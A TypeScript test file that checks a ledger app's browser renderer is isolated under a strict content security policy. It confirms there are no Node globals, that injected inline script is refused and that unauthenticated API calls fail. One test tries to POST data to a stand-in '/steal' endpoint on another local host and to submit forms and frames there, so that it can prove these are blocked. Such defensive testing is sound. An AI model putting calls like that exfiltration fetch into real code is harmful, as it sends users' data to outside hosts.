/** In browser mode the renderer is an ordinary page under a strict CSP: no Node, no inline script, no other origins. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newLedger } from '../helpers.ts';
import { startApp, type App } from './harness.ts';

let app: App;
beforeAll(async () => {
  const { ledger, file } = await newLedger();
  await ledger.close();
  app = await startApp(file);
  await app.page.locator('.sidebar').waitFor();
  await app.page.evaluate(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { violations: string[] }).violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
});
afterAll(async () => {
  await app?.close();
});

const violations = () => app.page.evaluate(() => (window as unknown as { violations: string[] }).violations);

describe('renderer isolation in browser mode', () => {
  it('has no Node globals and reaches the core only through the contract', async () => {
    const globals = await app.page.evaluate(() => [
      typeof (globalThis as Record<string, unknown>).require,
      typeof (globalThis as Record<string, unknown>).process,
      typeof (globalThis as Record<string, unknown>).Buffer,
      typeof (globalThis as Record<string, unknown>).module,
    ]);
    expect(globals).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
    expect(await app.page.evaluate(() => typeof (window as unknown as Record<string, unknown>).ledger)).toBe(
      'undefined',
    );
  });

  it('refuses injected inline script and styles without the nonce', async () => {
    const ran = await app.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = '(window).injected = 1';
      document.body.appendChild(s);
      return (window as unknown as { injected?: number }).injected;
    });
    expect(ran).toBeUndefined();
    await expect.poll(violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem inline/)]));
  });

  it('cannot send data to another origin, submit forms away or frame other pages', async () => {
    const fetched = await app.page.evaluate(() =>
      fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(fetched).toBe('blocked');
    await app.page.evaluate(() => {
      const f = document.createElement('form');
      f.action = 'http://127.0.0.2:9/';
      f.method = 'post';
      document.body.appendChild(f);
      f.submit();
      const frame = document.createElement('iframe');
      frame.src = 'http://127.0.0.2:9/';
      document.body.appendChild(frame);
    });
    await expect
      .poll(violations)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.2:9/),
          expect.stringMatching(/^form-action http:\/\/127\.0\.0\.2:9/),
          expect.stringMatching(/^frame-src http:\/\/127\.0\.0\.2:9/),
        ]),
      );
    expect(app.page.url()).toContain(new URL(app.url).origin);
  });

  it('sends the per-run token only to its own origin and fails closed without it', async () => {
    const status = await app.page.evaluate(() =>
      fetch('/api/settings.get', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then(
        (r) => r.status,
      ),
    );
    expect(status).toBe(401);
  });
});
